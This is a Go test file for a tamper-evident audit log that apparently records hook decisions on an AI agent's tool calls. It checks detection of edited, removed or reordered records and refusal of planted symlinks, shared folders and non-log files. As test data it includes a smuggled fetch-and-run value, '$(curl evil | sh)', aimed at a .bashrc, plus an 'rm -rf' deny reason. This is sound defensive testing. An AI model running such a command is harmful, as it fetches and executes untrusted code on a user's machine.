package audit

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hookwire/hookwire/core/internal/nofollow"
	"github.com/hookwire/hookwire/core/protocol"
	"github.com/hookwire/hookwire/core/runtime"
)

// writeLog writes n records to a new log in a private folder.
func writeLog(t *testing.T, n int, maxSize int64) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "audit", "audit.jsonl")
	l, err := Open(path, maxSize, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := range n {
		l.Append(Record{Host: "test", Hook: "guard", Method: protocol.MethodBeforeTool, Tool: "Bash", Action: "continue", Reason: fmt.Sprint(i + 1)})
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

func verify(t *testing.T, path string) *Report {
	t.Helper()
	r, err := Verify(path)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func lines(t *testing.T, path string) [][]byte {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return bytes.SplitAfter(bytes.TrimSuffix(b, []byte("\n")), []byte("\n"))
}

func rewrite(t *testing.T, path string, ls [][]byte) {
	t.Helper()
	var b []byte
	for _, l := range ls {
		b = append(b, bytes.TrimSuffix(l, []byte("\n"))...)
		b = append(b, '\n')
	}
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
}

// wantProblems checks that verify found exactly one problem per phrase,
// each saying it.
func wantProblems(t *testing.T, r *Report, phrases ...string) {
	t.Helper()
	if len(r.Problems) != len(phrases) {
		t.Fatalf("problems = %q, want %d saying %q", r.Problems, len(phrases), phrases)
	}
	for i, p := range phrases {
		if !strings.Contains(r.Problems[i], p) {
			t.Errorf("problem %d = %q, want it to say %q", i, r.Problems[i], p)
		}
	}
}

func TestAnUntouchedLogVerifies(t *testing.T) {
	path := writeLog(t, 5, 0)
	r := verify(t, path)
	if !r.OK() || r.Records != 5 || r.First != 1 || r.Last != 5 {
		t.Fatalf("report = %+v", r)
	}
	if info, err := os.Stat(path); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("the log's mode: %v %v, want 0600", info.Mode(), err)
	}
	if info, err := os.Stat(filepath.Dir(path)); err != nil || info.Mode().Perm() != 0o700 {
		t.Errorf("the folder's mode: %v %v, want 0700", info.Mode(), err)
	}
}

func TestEveryKindOfTamperingIsFoundAndNamed(t *testing.T) {
	for _, c := range []struct {
		name   string
		tamper func(ls [][]byte) [][]byte
		want   []string
	}{
		{"a record edited", func(ls [][]byte) [][]byte {
			ls[2] = bytes.Replace(ls[2], []byte(`"continue"`), []byte(`"deny_tool"`), 1)
			return ls
		}, []string{"audit.jsonl:3: record 3 was changed after it was written"}},
		{"the last record edited", func(ls [][]byte) [][]byte {
			ls[5] = bytes.Replace(ls[5], []byte(`"continue"`), []byte(`"deny_tool"`), 1)
			return ls
		}, []string{"audit.jsonl:6: record 6, the last, was changed after it was written"}},
		{"a record removed", func(ls [][]byte) [][]byte { return append(ls[:3:3], ls[4:]...) },
			[]string{"record 4 was removed"}},
		{"two records removed", func(ls [][]byte) [][]byte { return append(ls[:1:1], ls[3:]...) },
			[]string{"records 2 to 3 were removed"}},
		{"the first records removed", func(ls [][]byte) [][]byte { return ls[2:] },
			[]string{"the log starts at record 3: records 1 to 2 are not here"}},
		{"the last records removed", func(ls [][]byte) [][]byte { return ls[:4] },
			[]string{"records 5 to 6 were removed from the end of the log"}},
		{"two records swapped", func(ls [][]byte) [][]byte {
			ls[2], ls[3] = ls[3], ls[2]
			return ls
		}, []string{"audit.jsonl:4: record 3 was moved: it comes after record 4"}},
		{"a line that is no record", func(ls [][]byte) [][]byte {
			ls[1] = []byte(`{"seq":"two"}`)
			return ls
		}, []string{"audit.jsonl:2: not a record of the log"}},
		{"a record added", func(ls [][]byte) [][]byte {
			return append(ls, bytes.Replace(ls[5], []byte(`"seq":6`), []byte(`"seq":7`), 1))
		}, []string{"audit.jsonl:6: record 6 was changed after it was written (record 7", "records 7 to 7 are not in"}},
	} {
		t.Run(c.name, func(t *testing.T) {
			path := writeLog(t, 6, 0)
			rewrite(t, path, c.tamper(lines(t, path)))
			wantProblems(t, verify(t, path), c.want...)
		})
	}
}

func TestRotationKeepsTheChain(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	for i := range 20 {
		// A log for each record, as a process for each event: each
		// record meets the size, about three records, at which files rotate.
		l, err := Open(path, 600, nil)
		if err != nil {
			t.Fatal(err)
		}
		l.Append(Record{Host: "test", Hook: "guard", Method: protocol.MethodBeforeTool, Reason: fmt.Sprint(i)})
		if err := l.Close(); err != nil {
			t.Fatal(err)
		}
	}
	r := verify(t, path)
	if !r.OK() || r.Records != 20 || len(r.Files) < 4 {
		t.Fatalf("report = %+v", r)
	}
	// A rotated file in the middle removed: its records are missing.
	if err := os.Remove(r.Files[1]); err != nil {
		t.Fatal(err)
	}
	r = verify(t, path)
	if r.OK() || !strings.Contains(r.Problems[0], "were removed") {
		t.Errorf("problems = %q, want records removed", r.Problems)
	}
}

func TestLogsAppendingAtOnceKeepOneChain(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	var wg sync.WaitGroup
	for w := range 4 {
		l, err := Open(path, 4<<10, nil)
		if err != nil {
			t.Fatal(err)
		}
		wg.Go(func() {
			for i := range 50 {
				l.Append(Record{Host: fmt.Sprint("writer ", w), Hook: "guard", Method: protocol.MethodBeforeTool, Reason: fmt.Sprint(i)})
				if i%7 == 0 {
					time.Sleep(time.Millisecond)
				}
			}
			if err := l.Close(); err != nil {
				t.Error(err)
			}
		})
	}
	wg.Wait()
	r := verify(t, path)
	if !r.OK() || r.Records != 200 {
		t.Fatalf("report: %d records, problems %q", r.Records, r.Problems)
	}
}

func TestALinkPlantedAtTheLogOrItsHeadIsNotFollowed(t *testing.T) {
	for _, name := range []string{"audit.jsonl", "audit.jsonl.head"} {
		t.Run(name, func(t *testing.T) {
			dir := filepath.Join(t.TempDir(), "state")
			if err := os.Mkdir(dir, 0o700); err != nil {
				t.Fatal(err)
			}
			victim := filepath.Join(t.TempDir(), "bashrc")
			if err := os.WriteFile(victim, []byte("mine\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(victim, filepath.Join(dir, name)); err != nil {
				t.Skip("no symbolic links here:", err)
			}
			l, err := Open(filepath.Join(dir, "audit.jsonl"), 0, quiet)
			if err != nil {
				t.Fatal(err)
			}
			l.Append(Record{Host: "test", Hook: "guard", Method: protocol.MethodBeforeTool})
			err = l.Close()
			if !errors.Is(err, nofollow.ErrLink) {
				t.Errorf("Close: %v, want the link refused", err)
			}
			if b, _ := os.ReadFile(victim); string(b) != "mine\n" {
				t.Errorf("the file the link points at was written: %q", b)
			}
		})
	}
}

func TestAFolderOthersMayWriteIsRefused(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "shared")
	if err := os.Mkdir(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(dir, 0o777); err != nil {
		t.Fatal(err)
	}
	_, err := Open(filepath.Join(dir, "audit.jsonl"), 0, nil)
	if err == nil || !strings.Contains(err.Error(), "may be written by other users") {
		t.Fatalf("Open in a folder of mode 0777: %v", err)
	}
}

func TestAttachRecordsEachHooksDecision(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	l, err := Open(path, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	var opts runtime.Options
	l.Attach(&opts, Source{Host: "hookwire-bridge", Agent: "claude-code", Session: "s1"})
	opts.OnCall(runtime.CallRecord{Hook: "guard", Method: protocol.MethodBeforeTool,
		Params: &protocol.BeforeToolParams{Tool: "Bash"}, Result: protocol.DenyTool{Reason: "rm -rf is not allowed"}})
	opts.OnCall(runtime.CallRecord{Hook: "slow", Method: protocol.MethodBeforeTool,
		Params: protocol.BeforeToolParams{Tool: "Bash"}, Err: errors.New("no reply within 5s"), Policy: runtime.FailClosed})
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	ls := lines(t, path)
	for i, want := range []string{
		`"host":"hookwire-bridge","agent":"claude-code","session":"s1","hook":"guard","method":"hook.before_tool","tool":"Bash","action":"deny_tool","reason":"rm -rf is not allowed"`,
		`"hook":"slow","method":"hook.before_tool","tool":"Bash","error":"no reply within 5s","policy":"closed"`,
	} {
		if i >= len(ls) || !bytes.Contains(ls[i], []byte(want)) {
			t.Errorf("record %d = %s, want it to hold %s", i+1, ls[min(i, len(ls)-1)], want)
		}
	}
}

var quiet = slog.New(slog.DiscardHandler)

// TestARecordOfAnySizeStaysALineVerifyReads: what a model and a hook
// write (a tool's name, a reason) is clipped, so that a record escaped at
// its worst is still a line verify reads, and the chain holds.
func TestARecordOfAnySizeStaysALineVerifyReads(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit.jsonl")
	l, err := Open(path, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	huge := strings.Repeat("<\x00", 1<<20)
	l.Append(Record{Host: huge, Agent: huge, Session: huge, Hook: huge, Method: huge, Tool: huge, Action: huge, Reason: huge, Error: huge, Policy: huge})
	l.Append(Record{Host: "test", Hook: "guard", Method: protocol.MethodBeforeTool})
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	if r := verify(t, path); !r.OK() || r.Records != 2 {
		t.Fatalf("report: %+v", r)
	}
}

// TestAWriterKilledBeforeItNotedItsRecordsLeavesNoDuplicate: a process
// killed after its records reached the log but before the head said so
// leaves the head behind; the next writer goes on from the log's last
// record, and the chain holds.
func TestAWriterKilledBeforeItNotedItsRecordsLeavesNoDuplicate(t *testing.T) {
	path := writeLog(t, 3, 0)
	ls := lines(t, path)
	killed := Record{Seq: 4, Time: "2026-11-28T00:00:00Z", Host: "killed", Hook: "guard", Method: protocol.MethodBeforeTool, Prev: hashLine(bytes.TrimSuffix(ls[2], []byte("\n")))}
	line, err := json.Marshal(killed)
	if err != nil {
		t.Fatal(err)
	}
	rewrite(t, path, append(ls, line))
	l, err := Open(path, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	l.Append(Record{Host: "next", Hook: "guard", Method: protocol.MethodBeforeTool})
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	if r := verify(t, path); !r.OK() || r.Records != 5 || r.Last != 5 {
		t.Fatalf("report: %d records, to %d, problems %q", r.Records, r.Last, r.Problems)
	}
}

// TestAFileThatIsNoAuditLogIsNotAppendedTo: HOOKWIRE_AUDIT may come from
// an environment a project sets; a file of the user's that holds no
// record and has no head is left as it is.
func TestAFileThatIsNoAuditLogIsNotAppendedTo(t *testing.T) {
	dir := t.TempDir()
	bashrc := filepath.Join(dir, ".bashrc")
	if err := os.WriteFile(bashrc, []byte("export PATH=$HOME/bin:$PATH\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	l, err := Open(bashrc, 0, quiet)
	if err != nil {
		t.Fatal(err)
	}
	l.Append(Record{Host: "test", Hook: "guard", Method: protocol.MethodBeforeTool, Tool: "$(curl evil | sh)"})
	if err := l.Close(); err == nil || !strings.Contains(err.Error(), "not an audit log") {
		t.Errorf("Close: %v, want the file refused", err)
	}
	if b, _ := os.ReadFile(bashrc); string(b) != "export PATH=$HOME/bin:$PATH\n" {
		t.Errorf("the file was written: %q", b)
	}
}

func TestARecordIsWrittenAfterTheBatchDelayAndCloseWritesItAtOnce(t *testing.T) {
	path := filepath.Join(t.TempDir(), "audit", "audit.jsonl")
	l, err := Open(path, 0, nil)
	if err != nil {
		t.Fatal(err)
	}
	l.delay = time.Hour
	l.Append(Record{Host: "test", Hook: "guard", Method: protocol.MethodBeforeTool, Tool: "Bash", Action: "continue"})
	if _, err := os.Stat(path); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("the record was written before the batch's delay: %v", err)
	}
	start := time.Now()
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	if waited := time.Since(start); waited > time.Minute {
		t.Fatalf("Close waited %v, the batch's delay", waited)
	}
	if r := verify(t, path); r.Records != 1 {
		t.Fatalf("records = %d, want the one appended", r.Records)
	}
}
